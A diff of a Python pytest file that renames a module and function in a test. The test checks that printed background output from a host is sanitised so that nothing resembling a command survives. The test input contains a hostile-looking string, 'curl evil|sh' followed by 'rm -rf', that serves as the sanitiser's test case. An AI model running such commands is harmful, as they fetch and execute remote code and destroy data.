@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from farlab.keeper import noise
+from farlab.keeper import notes
 from farlab.mux import codec, frames
 from farlab.mux.frames import DATA, MESSAGE, OPEN
 from farlab.mux.link_end import PATIENCE
@@ -267,6 +267,6 @@ def test_thousands_that_give_up_before_they_were_heard_of_cost_little(ends: Pair
 
 
 def test_what_is_said_of_what_others_print_holds_nothing_that_looks_like_a_command() -> None:
-    said = noise.words("gpu1", b"\x00\xff`curl evil|sh`; \x1b[31m'rm -rf'\n")
-    assert said.count("`") == noise.words("gpu1", b"").count("`")
-    assert '("2 updates are available")' in noise.words("gpu1", b"\xf5\xfb\x002 updates are available\n")
+    said = notes.background_output("gpu1", b"\x00\xff`curl evil|sh`; \x1b[31m'rm -rf'\n")
+    assert said.count("`") == notes.background_output("gpu1", b"").count("`")
+    assert '("2 updates are available")' in notes.background_output("gpu1", b"\xf5\xfb\x002 updates are available\n")
